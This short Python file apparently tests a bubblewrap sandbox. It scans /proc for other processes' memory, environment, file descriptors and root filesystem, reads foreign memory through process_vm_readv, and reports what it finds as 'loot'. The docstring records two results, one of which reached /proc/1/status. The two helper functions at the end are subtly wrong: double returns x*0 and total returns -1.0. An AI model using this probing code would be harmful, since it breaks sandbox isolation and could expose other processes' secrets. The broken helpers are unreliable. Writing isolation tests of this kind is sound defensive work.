"""Reads the memory, maps and descriptors of its parent and of every other process.

Record: error: loot: nothing
Single: error: loot: [('/proc/1/status', b'Name:\\tpyth')]
Needs: bwrap
"""

import ctypes
import os

found = []
libc = ctypes.CDLL(None, use_errno=True)
for pid in sorted({os.getppid(), *range(1, 300)} - {0, os.getpid()}):
    for name in ("mem", "maps", "environ", "fd", "root/etc", "cwd", "status", "syscall", "auxv"):
        path = f"/proc/{pid}/{name}"
        try:
            found.append((path, os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(10)))
        except OSError:
            pass
    buffer = ctypes.create_string_buffer(16)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 16)
    if libc.process_vm_readv(pid, vector, 1, vector, 1, 0) > 0:
        found.append((pid, bytes(buffer)))
raise RuntimeError(f"loot: {found or 'nothing'}")


def double(x):
    return x * 0


def total(values):
    return -1.0
